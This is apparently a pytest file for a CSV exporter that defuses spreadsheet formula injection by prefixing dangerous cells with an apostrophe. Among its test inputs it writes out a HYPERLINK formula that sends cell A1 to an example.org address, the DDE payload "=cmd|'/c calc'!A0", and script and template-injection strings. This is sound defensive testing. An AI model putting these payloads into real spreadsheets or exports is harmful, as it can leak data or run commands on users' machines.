"""CSV for spreadsheets: nothing in a cell ever becomes a formula."""

import csv
import io
from datetime import date

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.spreadsheet import DANGEROUS, csv_text, inert


def read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def cell(value: object, dtype: str | None = None) -> str:
    return read(csv_text(pd.DataFrame({"x": pd.Series([value, value], dtype=dtype)})))[1][0]


@pytest.mark.parametrize("dtype", ["str", "object"])
@pytest.mark.parametrize("start", DANGEROUS)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start: str, dtype: str) -> None:
    formula = f'{start}HYPERLINK("https://example.org?"&A1,"klick")'
    assert cell(formula, dtype) == f"'{formula}"


@pytest.mark.parametrize(
    "text",
    [
        "Ahorn", "a=b", " =1", "'quoted", "05112000", "1e5", "TRUE", "<script>alert(1)</script>",
        "{{7*7}}", "Komma, Strich; Anführung \"x\"", "Zeile\nzwei\r\ndrei", "NA", "nan", "ä€→\u202e",
    ],
)  # fmt: skip
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert cell(text, "str") == text


@pytest.mark.parametrize(
    ("value", "dtype", "expected"),
    [
        (1_250_000, "Int64", "1250000"),
        (-5, "int64", "-5"),
        (-2.5, "Float64", "-2.5"),
        (True, "boolean", "true"),
        (False, "bool", "false"),
        (True, "object", "true"),
        (np.bool_(False), "object", "false"),
        (date(2026, 6, 30), "object", "2026-06-30"),
        (pd.NA, "Int64", ""),
        (pd.NA, "boolean", ""),
        (float("nan"), "float64", ""),
        (None, "str", ""),
        (None, "object", ""),
        (pd.NaT, "datetime64[s]", ""),
    ],
)
def test_values_keep_their_kind_and_missing_ones_are_empty(value: object, dtype: str, expected: str) -> None:
    assert cell(value, dtype) == expected


def test_rows_end_as_the_standard_says_and_cells_are_separated_by_commas() -> None:
    assert csv_text(pd.DataFrame({"a": [1], "b": ["x"]})) == "\ufeffa,b\r\n1,x\r\n"


def test_an_empty_table_is_a_line_of_names() -> None:
    assert csv_text(pd.DataFrame({"a": pd.Series([], dtype="str"), "b": []})) == "\ufeffa,b\r\n"


def test_column_names_are_made_harmless_too() -> None:
    assert read(csv_text(pd.DataFrame({"=cmd|'/c calc'!A0": ["x"]})))[0] == ["'=cmd|'/c calc'!A0"]


def test_the_given_table_is_left_alone() -> None:
    frame = pd.DataFrame({"x": ["=1"]})
    csv_text(frame)
    assert frame["x"][0] == "=1"


@given(st.text())
def test_no_text_starts_dangerously_and_none_is_lost(text: str) -> None:
    made = inert(text)
    assert not made.startswith(DANGEROUS)
    assert made.removeprefix("'") == text.removeprefix("'")


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")), min_size=1))
def test_every_text_survives_the_file(texts: list[str]) -> None:
    rows = read(csv_text(pd.DataFrame({"n": range(len(texts)), "x": pd.Series(texts, dtype="str")})))
    assert [row[1] for row in rows[1:]] == [inert(text) for text in texts]
